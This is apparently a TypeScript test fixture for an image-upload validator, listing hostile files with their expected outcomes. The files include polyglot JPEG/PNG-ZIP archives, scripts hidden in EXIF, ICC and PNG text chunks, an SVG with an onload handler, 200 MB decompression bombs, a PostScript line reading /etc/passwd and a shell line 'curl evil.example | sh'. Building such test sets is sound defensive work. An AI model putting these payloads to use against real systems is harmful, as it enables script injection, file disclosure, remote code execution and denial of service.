import { gzipSync } from "node:zlib"
import {
  animatedPng,
  animation,
  ascii,
  bitmap,
  blackPng,
  folded,
  icon,
  jpegOf,
  jpegSaying,
  jpegWith,
  mediaOf,
  nestedGzip,
  nestedZip,
  picture,
  place,
  pngOf,
  pngSaying,
  pngSignature,
  pngWith,
  script,
  zipOf,
} from "./file-makers.ts"
import type { HostileFile } from "./hostile-file.ts"

const jpeg = { kept: "image/jpeg" } as const
const png = { kept: "image/png" } as const
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2)
const followedBy = async (bytes: Promise<Buffer>, more: Buffer) => Buffer.concat([await bytes, more])
const jar = zipOf("META-INF/MANIFEST.MF", ascii("Main-Class: Lac\n"))
const gps = { IFD0: { Copyright: script, Artist: place }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "46/1 23/1 0/1" } }

/** Pictures with hidden contents. */
export const carriers: HostileFile[] = [
  { what: "a JPEG that is a ZIP too", bytes: () => followedBy(jpegOf(), jar), carries: ["META-INF"], outcome: jpeg },
  {
    what: "a JPEG followed by a page",
    bytes: () => followedBy(jpegOf(), ascii(script)),
    carries: [script],
    outcome: jpeg,
  },
  {
    what: "a JPEG with a comment that runs",
    bytes: () => jpegWith([0xfe, `${script}<?php`]),
    carries: [script, "<?php"],
    outcome: jpeg,
  },
  {
    what: "a JPEG that is a JavaScript too",
    bytes: () => jpegWith([0xfe, "*/=alert(1);/*"]),
    carries: ["*/=alert(1)"],
    outcome: jpeg,
  },
  {
    what: "a JPEG with a script and a place in its EXIF",
    bytes: () => jpegOf(picture().withExif(gps)),
    carries: [script, place, "Exif"],
    outcome: jpeg,
  },
  {
    what: "a photo with a place in its XMP",
    bytes: () => jpegWith([0xe1, `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${place}</x:xmpmeta>`]),
    carries: [place, "xmpmeta"],
    outcome: jpeg,
  },
  {
    what: "a press photo with a script in its caption",
    bytes: () =>
      jpegWith([0xed, `Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x22\x1c\x02\x78\x00\x1d${script}\x00`]),
    carries: [script],
    outcome: jpeg,
  },
  {
    what: "a JPEG with a colour profile that talks",
    bytes: () => jpegWith([0xe2, `ICC_PROFILE\0\x01\x01${script}`]),
    carries: [script],
    outcome: jpeg,
  },
  {
    what: "a JPEG with another picture for its preview",
    bytes: async () => jpegWith([0xe3, Buffer.concat([ascii("PREVIEW\0"), await jpegOf(picture(16, 16))])]),
    carries: ["PREVIEW\0"],
    outcome: jpeg,
  },
  {
    what: "two JPEGs in one, as cameras with two lenses make them",
    bytes: async () => followedBy(jpegOf(), await jpegWith([0xfe, place])),
    carries: [place],
    outcome: jpeg,
  },
  {
    what: "a photo that moves: a film behind the JPEG",
    bytes: () => followedBy(jpegOf(), mediaOf("mp42", place)),
    carries: [place, "ftypmp42"],
    outcome: jpeg,
  },
  {
    what: "a PNG with a text that runs",
    bytes: () => pngWith(["tEXt", `Comment\0${script}`]),
    carries: [script],
    outcome: png,
  },
  {
    what: "a PNG with a place in its XMP",
    bytes: () => pngWith(["iTXt", `XML:com.adobe.xmp\0\0\0\0\0${place}`]),
    carries: [place],
    outcome: png,
  },
  {
    what: "a PNG with a place in its EXIF",
    bytes: () => pngOf(picture().withExif(gps)),
    carries: [place, "eXIf"],
    outcome: png,
  },
  {
    what: "a PNG followed by a page",
    bytes: () => followedBy(pngOf(), ascii(`<!DOCTYPE html>${script}`)),
    carries: [script],
    outcome: png,
  },
  { what: "a PNG that is a ZIP too", bytes: () => followedBy(pngOf(), jar), carries: ["META-INF"], outcome: png },
  {
    what: "a PNG whose text unfolds to 200 MB",
    bytes: () => pngWith(["zTXt", Buffer.concat([ascii("Comment\0\0"), folded(200_000_000)])]),
    carries: ["zTXt"],
    outcome: png,
  },
  {
    what: "a PNG whose profile unfolds to 200 MB",
    bytes: () => pngWith(["iCCP", Buffer.concat([ascii("profil\0\0"), folded(200_000_000)])]),
    carries: ["iCCP"],
    outcome: png,
  },
]

/** Pictures whose header states a wrong size or structure. */
export const broken: HostileFile[] = [
  { what: "a PNG of 30 000 × 30 000 points, whole", bytes: () => blackPng(30_000, 30_000), outcome: "tooManyPixels" },
  {
    what: "a PNG that says 65 535 × 65 535 in full colour",
    bytes: () => pngSaying(65_535, 65_535),
    outcome: "tooManyPixels",
  },
  {
    what: "a PNG that says two thousand million points each way",
    bytes: () => pngSaying(2_147_483_647, 2_147_483_647),
    outcome: "damaged",
  },
  { what: "a PNG of no points at all", bytes: () => pngSaying(0, 0), outcome: "damaged" },
  { what: "a JPEG that says 65 500 × 65 500", bytes: () => jpegSaying(65_500, 65_500), outcome: "tooManyPixels" },
  { what: "a PNG of one point by 60 million", bytes: () => pngSaying(1, 60_000_000, 8, 0), outcome: "tooManyPixels" },
  { what: "a PNG just under the limit, black", bytes: () => blackPng(7_000, 7_000), outcome: png },
  { what: "half a JPEG", bytes: async () => half(await jpegOf()), outcome: "damaged" },
  { what: "half a PNG", bytes: async () => half(await pngOf()), outcome: "damaged" },
  {
    what: "the first bytes of a JPEG, then text",
    bytes: () => ascii(`\xff\xd8\xff\xe0\0\x10JFIF\0${script.repeat(20)}`),
    outcome: "damaged",
  },
  { what: "the signature of a PNG and nothing more", bytes: () => pngSignature, outcome: "wrongType" },
  { what: "a PNG with a byte of its header turned", bytes: async () => turned(await pngOf(), 19), outcome: "damaged" },
]

function turned(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes)
  copy[at] = (copy[at] ?? 0) ^ 0xff
  return copy
}

const photo = { kind: "photo", name: "photo.jpg", type: "image/jpeg", outcome: "wrongType" } as const

/** Other formats with the name of a JPEG, PNG or PDF. */
export const strangers: HostileFile[] = [
  { ...photo, what: "a drawing that carries a script", bytes: () => ascii(svg) },
  {
    ...photo,
    what: "the same after blanks and a byte order mark",
    bytes: () => Buffer.from(`\uFEFF \n<?xml version="1.0"?>${svg}`),
  },
  { ...photo, what: "the same folded", bytes: () => gzipSync(ascii(svg)) },
  { ...photo, what: "a page that begins as a GIF", bytes: () => ascii(`GIF89a/*${script}*/=1;`) },
  { ...photo, what: "a GIF that is a Java archive too", bytes: async () => followedBy(animation("gif"), jar) },
  { ...photo, what: "a GIF that moves", bytes: () => animation("gif") },
  { ...photo, what: "a PNG that moves", bytes: animatedPng },
  { ...photo, what: "a WebP", bytes: () => picture().webp().toBuffer() },
  { ...photo, what: "a WebP that moves", bytes: () => animation("webp") },
  {
    ...photo,
    what: "a WebP that lies about its length",
    bytes: () => ascii(`RIFF\xff\xff\xff\xffWEBPVP8X${"\xff".repeat(60)}`),
  },
  { ...photo, what: "an AVIF", bytes: () => picture(32, 32).avif({ effort: 0 }).toBuffer() },
  { ...photo, what: "a HEIC with nothing in it", bytes: () => mediaOf("heic"), outcome: "heic" },
  { ...photo, what: "a TIFF", bytes: () => picture().tiff().toBuffer() },
  {
    ...photo,
    what: "a TIFF whose first page is far away",
    bytes: () => ascii("II*\0\xff\xff\xff\x7f".padEnd(100, "\0")),
  },
  { ...photo, what: "an icon with a PNG inside", bytes: icon },
  { ...photo, what: "a bitmap larger than any memory", bytes: bitmap },
  { ...photo, what: "a ZIP in a ZIP in a ZIP", bytes: () => nestedZip(3) },
  { ...photo, what: "nothing, folded twice", bytes: nestedGzip },
  { ...photo, what: "a document of a word processor", bytes: () => zipOf("[Content_Types].xml", ascii("<Types/>")) },
  {
    ...photo,
    what: "a program of PostScript",
    bytes: () => ascii("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n%%EOF\n"),
  },
  {
    ...photo,
    what: "a Windows program",
    bytes: () => ascii(`MZ\x90\0\x03${"\0".repeat(200)}This program cannot be run`),
  },
  { ...photo, what: "a Linux program", bytes: () => ascii(`\x7fELF\x02\x01\x01${"\0".repeat(200)}`) },
  { ...photo, what: "a program for the shell", bytes: () => ascii("#!/bin/sh\ncurl evil.example | sh\n") },
  { ...photo, what: "one byte", bytes: () => ascii("x") },
  { ...photo, what: "nothing at all", bytes: () => Buffer.alloc(0) },
]
